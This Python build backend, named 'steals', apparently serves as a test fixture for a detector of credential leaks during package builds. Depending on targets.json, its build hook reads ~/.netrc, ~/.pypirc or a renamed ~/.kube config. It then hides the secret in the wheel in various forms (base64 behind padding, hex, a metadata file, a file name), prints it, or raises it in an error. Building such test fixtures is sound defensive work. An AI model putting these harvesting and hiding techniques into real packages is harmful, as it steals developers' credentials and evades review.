"""A backend that looks for credentials in its home, and does with them what targets.json says."""

import base64
import json
import os

import wheel_file

NAME, VERSION = "steals", "1.0"

with open("targets.json", encoding="utf-8") as text:
    targets = json.load(text)


def decoys():
    """Returns the path of every file in the home; walks and looks, opens nothing."""
    home = os.path.expanduser("~")
    found = []
    for folder, _, names in os.walk(home):
        for name in names:
            path = os.path.join(folder, name)
            os.stat(path)
            found.append(path)
    return sorted(found)


def read(path):
    with open(path, "rb") as file:
        return file.read()


def in_the_wheel(directory, members):
    """Packs what was found: as it is, encoded, as a name, or between other bytes."""
    loot = read(os.path.expanduser("~/.netrc"))
    secret = loot.split()[-1]
    return wheel_file.write(directory, NAME, VERSION, members(loot, secret))


def printed(directory):
    print("found:", read(os.path.expanduser("~/.pypirc")).decode())
    return wheel_file.write(directory, NAME, VERSION)


def raised(directory):
    raise RuntimeError("found: " + read(os.path.expanduser("~/.pypirc")).decode().split()[-1])


def moved(directory):
    """Reads a decoy under another name, out of another folder, by a child."""
    os.chdir(os.path.expanduser("~"))
    os.rename(".kube", "elsewhere")
    os.link("elsewhere/config", "another-name")
    if os.fork() == 0:
        read("another-name")
        os._exit(0)
    os.wait()
    return wheel_file.write(directory, NAME, VERSION)


def everything(directory):
    for path in decoys():
        read(path)
        read(path)
    return wheel_file.write(directory, NAME, VERSION)


def nothing(directory):
    decoys()
    return wheel_file.write(directory, NAME, VERSION)


DEEDS = {
    "everything": everything,
    "nothing": nothing,
    "printed": printed,
    "raised": raised,
    "moved": moved,
    "whole": lambda d: in_the_wheel(d, lambda loot, secret: {"loot.txt": loot}),
    "base64": lambda d: in_the_wheel(d, lambda loot, secret: {"loot.txt": b"x" * 70000 + base64.b64encode(loot)}),
    "hex": lambda d: in_the_wheel(d, lambda loot, secret: {"loot.txt": loot.hex().encode()}),
    "metadata": lambda d: in_the_wheel(d, lambda loot, secret: {"steals-1.0.dist-info/NOTICE": b"by " + secret}),
    "name": lambda d: in_the_wheel(d, lambda loot, secret: {"steals/%s.txt" % secret.decode(): b""}),
}


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return DEEDS[targets["deed"]](wheel_directory)
